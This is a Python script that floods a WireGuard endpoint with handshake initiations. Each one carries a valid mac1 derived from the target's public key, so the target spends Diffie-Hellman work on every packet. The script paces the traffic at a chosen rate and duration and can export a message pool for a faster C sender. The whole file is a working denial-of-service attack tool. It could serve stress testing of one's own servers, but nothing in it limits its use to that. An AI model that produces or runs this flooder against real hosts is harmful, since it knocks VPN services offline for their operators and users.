#!/usr/bin/env python3
"""Floods a WireGuard listen port with handshake initiations whose mac1 is valid for its key.

usage: flood.py HOST PORT PUBLIC_KEY_BASE64 RATE SECONDS [--pool N]
       flood.py --pool-only PUBLIC_KEY_BASE64 N    (N messages, 148 bytes each, to stdout, for
                                                   flood-send.c, which sends them with sendmmsg)

Every datagram is a 148-byte type-1 message with a random sender index, ephemeral, encrypted
static and timestamp, and mac1 = BLAKE2s-128 keyed with BLAKE2s-256("mac1----" || the target's
public key) over the bytes before it, mac2 zero: it passes the target's mac1 check and costs it
the first Diffie-Hellman (or, under load, a cookie reply), as an attacker who knows the public key
can make it. N distinct messages (default 4096) are made once and sent round-robin, paced in 5 ms
steps at RATE per second, for SECONDS (bounded). Prints JSON: {"sent", "seconds", "rate"}.
Stdlib only.
"""
import base64
import hashlib
import json
import os
import socket
import struct
import sys
import time


def initiations(public_key: bytes, count: int) -> list:
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    out = []
    for _ in range(count):
        body = struct.pack("<I", 1) + os.urandom(4 + 32 + 48 + 28)
        mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
        out.append(body + mac1 + bytes(16))
    return out


def main() -> int:
    args = sys.argv[1:]
    if len(args) == 3 and args[0] == "--pool-only":
        sys.stdout.buffer.write(b"".join(initiations(base64.b64decode(args[1]), int(args[2]))))
        return 0
    pool = 4096
    if "--pool" in args:
        i = args.index("--pool")
        pool = int(args[i + 1])
        del args[i : i + 2]
    if len(args) != 5:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 2
    host, port, key, rate, seconds = args[0], int(args[1]), args[2], int(args[3]), float(args[4])
    public_key = base64.b64decode(key)
    if len(public_key) != 32:
        print("flood.py: PUBLIC_KEY_BASE64 is not 32 bytes of base64", file=sys.stderr)
        return 2
    messages = initiations(public_key, pool)
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.connect((host, port))
    send = sock.send
    step = 0.005
    per_step = max(1, round(rate * step))
    start = time.monotonic()
    deadline = start + seconds
    sent = 0
    index = 0
    next_step = start
    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        if now < next_step:
            time.sleep(next_step - now)
            continue
        # Catch up at most one step's worth late, so a stall does not turn into a burst.
        next_step = max(next_step + step, now - step)
        for _ in range(per_step):
            try:
                send(messages[index])
            except OSError:
                pass  # a full socket buffer or an ICMP error: the datagram is lost, as on a link
            index = (index + 1) % pool
        sent += per_step
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 2), "rate": round(sent / elapsed)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
